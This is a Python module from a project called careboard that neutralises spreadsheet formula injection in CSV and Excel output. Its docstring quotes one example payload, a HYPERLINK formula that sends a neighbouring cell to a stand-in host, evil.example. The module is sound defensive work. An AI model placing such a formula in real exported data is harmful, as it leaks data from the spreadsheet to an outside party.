"""Cells leaving careboard for a spreadsheet: text a spreadsheet would run as a formula is neutralised.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula (CSV or formula injection): a child ID of
``=HYPERLINK("http://evil.example/?leak="&B2,"Click me")`` in a validation report would become a live
link that sends the neighbouring cell away.  Every CSV and Excel writer in careboard passes its cells
through this module:

* CSV: such text gets a leading apostrophe (``'=HYPERLINK(...)``), the usual defence: the cell shows
  as text, and the apostrophe tells the reader it was neutralised;
* Excel: such text is written as a string cell (never a formula) with Excel's quote-prefix style, so
  it shows exactly as found and stays text if someone edits it.

Only text is touched: numbers (a negative figure in a numeric column) stay numbers.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

import pyarrow as pa
import pyarrow.compute as pc

RISKY_START = ("=", "+", "-", "@", "\t", "\r")
_RISKY_PATTERN = "^[=+\\-@\t\r]"


def risky(value: object) -> bool:
    """Is ``value`` text a spreadsheet would read as a formula?"""
    return isinstance(value, str) and value.startswith(RISKY_START)


def csv_cell(value: Any) -> Any:
    """``value`` as a CSV writer should write it: risky text prefixed with an apostrophe."""
    return "'" + value if risky(value) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


def csv_dict(row: dict[str, Any]) -> dict[str, Any]:
    return {k: csv_cell(v) for k, v in row.items()}


def csv_text_column(values: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """A whole text column neutralised at once (Arrow compute, for large outputs); others unchanged."""
    if not pa.types.is_string(values.type) and not pa.types.is_large_string(values.type):
        return values
    hit = pc.fill_null(pc.match_substring_regex(values, _RISKY_PATTERN), False)
    return pc.if_else(hit, pc.binary_join_element_wise("'", values, ""), values)


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """Cells for ``sheet.append``: risky text as a quote-prefixed string cell, never a formula."""
    from openpyxl.cell import WriteOnlyCell

    out = []
    for v in values:
        if risky(v):
            cell = WriteOnlyCell(sheet, value=v)
            cell.data_type = "s"
            cell.quotePrefix = True
            out.append(cell)
        else:
            out.append(v)
    return out
